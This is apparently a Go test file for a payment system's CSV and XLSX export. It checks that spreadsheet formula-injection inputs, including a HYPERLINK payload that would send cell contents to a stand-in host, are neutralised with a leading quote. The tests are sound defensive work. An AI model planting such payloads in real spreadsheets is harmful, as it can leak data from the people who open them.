package tables

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/tilltape/tilltape/events"
	"github.com/tilltape/tilltape/internal/tests/tilltest"
	"github.com/tilltape/tilltape/money"
	"github.com/tilltape/tilltape/order"
	"github.com/tilltape/tilltape/store/memory"
)

// texts are what people and machines may write into a log, beside what a table shows of them.
var texts = map[string]string{
	"=1+1": "'=1+1", "+1": "'+1", "-5": "'-5", "@SUM(1)": "'@SUM(1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1",
	"\uff1d1+1": "'\uff1d1+1", `=HYPERLINK("http://x/?"&A1,"a")`: `'=HYPERLINK("http://x/?"&A1,"a")`,
	"202611230000000000000000000025": "202611230000000000000000000025", "00012": "00012", "1E5": "1E5",
	"TRUE": "TRUE", "1/2": "1/2", "a=b": "a=b", `one, "two"` + "\nthree": `one, "two"` + "\nthree", "_x0041_": "_x0041_",
	"Zoë \u2603": "Zoë \u2603", "'quoted": "'quoted",
}

// odd is a table with each of the texts in a row, beside an amount.
func odd() *Table {
	t := &Table{Name: "odd", Columns: []string{"id", "amount"}}
	for _, text := range sortedTexts() {
		t.Rows = append(t.Rows, []Cell{Text(text), Amount(money.Amount{Minor: -5, Currency: "USD"})})
	}
	return t
}

func sortedTexts() (all []string) {
	for text := range texts {
		all = append(all, text)
	}
	slices.Sort(all)
	return all
}

func TestTextThatCouldRunIsNeutralised(t *testing.T) {
	for text, want := range texts {
		assert.Equal(t, want, Text(text).shown(), "%q", text)
	}
	assert.Empty(t, Text("").shown())
}

func TestCells(t *testing.T) {
	for want, cell := range map[string]Cell{
		"":                            Amount(money.Amount{}),
		"10.00":                       Amount(money.Amount{Minor: 1000, Currency: "USD"}),
		"1000":                        Amount(money.Amount{Minor: 1000, Currency: "JPY"}),
		"-0.005":                      Amount(money.Amount{Minor: -5, Currency: "KWD"}),
		"1000 minor units of \"ABC\"": Amount(money.Amount{Minor: 1000, Currency: "ABC"}),
		"92233720368547758.07":        Amount(money.Amount{Minor: 1<<63 - 1, Currency: "USD"}),
		"2026-11-29 12:00:00":         Time(time.Date(2026, 11, 29, 20, 0, 0, 9, time.FixedZone("", 8*60*60))),
		"'=1":                         Text("=1"),
		"not a formula, by chance":    Text("not a formula, by chance"),
	} {
		assert.Equal(t, want, cell.shown())
	}
	assert.Empty(t, Time(time.Time{}).shown())
}

// What is written as CSV is read back by another reader, with lines that end as RFC 4180 has it.
func TestWriteCSV(t *testing.T) {
	var out bytes.Buffer
	require.NoError(t, odd().WriteCSV(&out))
	assert.True(t, strings.HasPrefix(out.String(), "id,amount\r\n"))
	got, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
	require.NoError(t, err)
	require.Len(t, got, len(texts)+1)
	for i, text := range sortedTexts() {
		want := strings.ReplaceAll(texts[text], "\r", "") // in a CSV it is a part of breaks alone
		assert.Equal(t, []string{want, "-0.05"}, got[i+1])
	}
}

// In a workbook texts are text cells, and amounts are numbers with their decimals.
func TestWriteXLSX(t *testing.T) {
	var out bytes.Buffer
	table := odd()
	table.Rows = append(table.Rows, []Cell{{}, Amount(money.Amount{Minor: 1<<63 - 1, Currency: "USD"})})
	require.NoError(t, table.WriteXLSX(&out))
	book, err := excelize.OpenReader(bytes.NewReader(out.Bytes()))
	require.NoError(t, err)
	defer func() { require.NoError(t, book.Close()) }()
	require.Equal(t, []string{"odd"}, book.GetSheetList())
	cell := func(column string, row int) (string, excelize.CellType) {
		at, err := excelize.JoinCellName(column, row)
		require.NoError(t, err)
		formula, err := book.GetCellFormula("odd", at)
		require.NoError(t, err)
		assert.Empty(t, formula)
		value, err := book.GetCellValue("odd", at)
		require.NoError(t, err)
		kind, err := book.GetCellType("odd", at)
		require.NoError(t, err)
		return value, kind
	}
	for i, text := range sortedTexts() {
		value, kind := cell("A", i+2)
		assert.Equal(t, texts[text], value)
		assert.Equal(t, excelize.CellTypeInlineString, kind, "%q", text)
		value, kind = cell("B", i+2)
		assert.Equal(t, "-0.05", value)
		assert.Equal(t, excelize.CellTypeUnset, kind, "a number")
	}
	value, kind := cell("B", len(texts)+2)
	assert.Equal(t, "92233720368547758.07", value, "no digit is lost")
	assert.Equal(t, excelize.CellTypeInlineString, kind)

	long := &Table{Name: "long", Columns: []string{"a"}, Rows: make([][]Cell, RowsMax)}
	require.ErrorContains(t, long.WriteXLSX(&out), "more than the 1048575 that a sheet holds")
}

// rowsOf are the cells of a table's rows, those columns only, with bars between.
func rowsOf(t *testing.T, table *Table, columns ...string) (rows []string) {
	t.Helper()
	for _, row := range table.Rows {
		require.Len(t, row, len(table.Columns))
		var cells []string
		for _, name := range columns {
			for i, column := range table.Columns {
				if column == name {
					cells = append(cells, row[i].shown())
				}
			}
		}
		require.Len(t, cells, len(columns))
		rows = append(rows, strings.Join(cells, "|"))
	}
	return rows
}

// The money of an order as it moved, with whoever commanded it, and why.
func TestMovements(t *testing.T) {
	till := tilltest.NewTill(t, memory.New())
	till.Captured(tilltest.TheAmount)
	paid := till.Get()
	_, err := till.Orders.Refund(t.Context(), tilltest.TheOrder, order.Refund{CommandID: "give-back",
		Amount: tilltest.USD(tilltest.ThePart), Reason: "=returned", Actor: "bob"})
	require.NoError(t, err)
	till.Settle(time.Hour)
	till.Observe(tilltest.RefundNotice(tilltest.Notice{Payment: tilltest.ThePayment, PaymentRequest: tilltest.TheRequest,
		Transfer: "dashboard-1", Minor: 100, At: paid.PaymentAt.Add(time.Hour)}))

	table, err := Movements(t.Context(), till.Log, Query{})
	require.NoError(t, err)
	got := rowsOf(t, table, "order", "movement", "state", "amount", "currency", "by", "reason", "whose", "paymentId",
		"commandId")
	want := []string{
		"o-1|authorization|counted|10.00|USD|||buyer|" + tilltest.ThePayment + "|",
		"o-1|capture|counted|10.00|USD|ada||ours|" + tilltest.ThePayment + "|id-5",
		"o-1|refund|counted|4.00|USD|bob|'=returned|ours|" + tilltest.ThePayment + "|give-back",
		"o-1|refund|counted|1.00|USD|||elsewhere|" + tilltest.ThePayment + "|",
	}
	assert.ElementsMatch(t, want, got)

	only := func(q Query) []string {
		table, err := Movements(t.Context(), till.Log, q)
		require.NoError(t, err)
		return rowsOf(t, table, "movement", "amount")
	}
	assert.ElementsMatch(t, []string{"refund|4.00", "refund|1.00"}, only(Query{Kinds: []string{"refund"}}))
	assert.Empty(t, only(Query{Orders: []string{"o-2"}}))
	assert.Len(t, only(Query{Orders: []string{"o-1", "o-2"}}), 4)
	assert.Empty(t, only(Query{Until: tilltest.Dawn()}))
	assert.Len(t, only(Query{From: tilltest.Dawn()}), 4)
	assert.ElementsMatch(t, MovementKinds(), []string{"authorization", "payment", "capture", "refund", "cancel",
		"dispute", "raise"})
}

// A cancel, and what came late all the same; and what a dispute took.
func TestMovementsOfOtherKinds(t *testing.T) {
	till := tilltest.NewTill(t, memory.New())
	till.PaidLate(order.CaptureNone)
	table, err := Movements(t.Context(), till.Log, Query{})
	require.NoError(t, err)
	assert.Equal(t, []string{"cancel|done||ours", "payment|late|10.00|buyer"},
		rowsOf(t, table, "movement", "state", "amount", "whose"))

	till = tilltest.NewTill(t, memory.New())
	till.Captured(tilltest.TheAmount)
	till.Observe(tilltest.LostDispute(tilltest.Notice{Payment: tilltest.ThePayment, PaymentRequest: tilltest.TheRequest,
		Transfer: "d-1", Minor: 300, At: tilltest.Dawn().Add(time.Hour)}))
	table, err = Movements(t.Context(), till.Log, Query{Kinds: []string{"dispute"}})
	require.NoError(t, err)
	assert.Equal(t, []string{"dispute|lost|3.00|USD|d-1"}, rowsOf(t, table, "movement", "state", "amount", "currency",
		"transferId"))
}

// A refund whose capture nobody has told yet is in no amount: it is held, and not counted.
func TestMovementsThatAreHeld(t *testing.T) {
	till := tilltest.NewTill(t, memory.New())
	till.Place(order.CaptureManual)
	till.Observe(tilltest.PaymentNotice(tilltest.Notice{Payment: tilltest.ThePayment, PaymentRequest: tilltest.TheRequest,
		Minor: tilltest.TheAmount, At: tilltest.Dawn(), Expires: tilltest.Dawn().Add(time.Hour)}))
	till.Observe(tilltest.RefundNotice(tilltest.Notice{Payment: tilltest.ThePayment, Transfer: "R1", Minor: 300,
		At: tilltest.Dawn().Add(time.Minute)}))
	table, err := Movements(t.Context(), till.Log, Query{Kinds: []string{"refund"}})
	require.NoError(t, err)
	assert.Equal(t, []string{"refund|held|3.00|R1"}, rowsOf(t, table, "movement", "state", "amount", "transferId"))
}

func TestOrders(t *testing.T) {
	till := tilltest.NewTill(t, memory.New())
	till.Many(3)
	_, err := till.Orders.Capture(t.Context(), "o-1", order.Capture{Amount: tilltest.USD(400), Actor: "x"})
	require.NoError(t, err)
	table, err := Orders(t.Context(), till.Log, Query{Orders: []string{"o-0", "o-1"}})
	require.NoError(t, err)
	assert.Equal(t, []string{"o-0|authorized|10.00|10.00|0.00|USD|CARD", "o-1|partly captured|10.00|10.00|4.00|USD|CARD"},
		rowsOf(t, table, "order", "status", "amount", "authorized", "captured", "currency", "method"))
	table, err = Orders(t.Context(), till.Log, Query{Until: tilltest.Dawn()})
	require.NoError(t, err)
	assert.Empty(t, table.Rows)
}

// A table is made only of what was judged.
func TestATableOfAnIllegalLog(t *testing.T) {
	log := memory.New()
	_, err := log.Append(t.Context(), events.OrderStream("o-1"), 0, events.Record{ID: "r", Recorded: tilltest.Dawn(),
		Occurred: tilltest.Dawn(), Event: events.PaymentPending{PaymentID: "p"}})
	require.NoError(t, err)
	_, err = Movements(t.Context(), log, Query{})
	require.ErrorContains(t, err, "position 1")
	_, err = Orders(t.Context(), log, Query{})
	require.ErrorContains(t, err, "position 1")
}
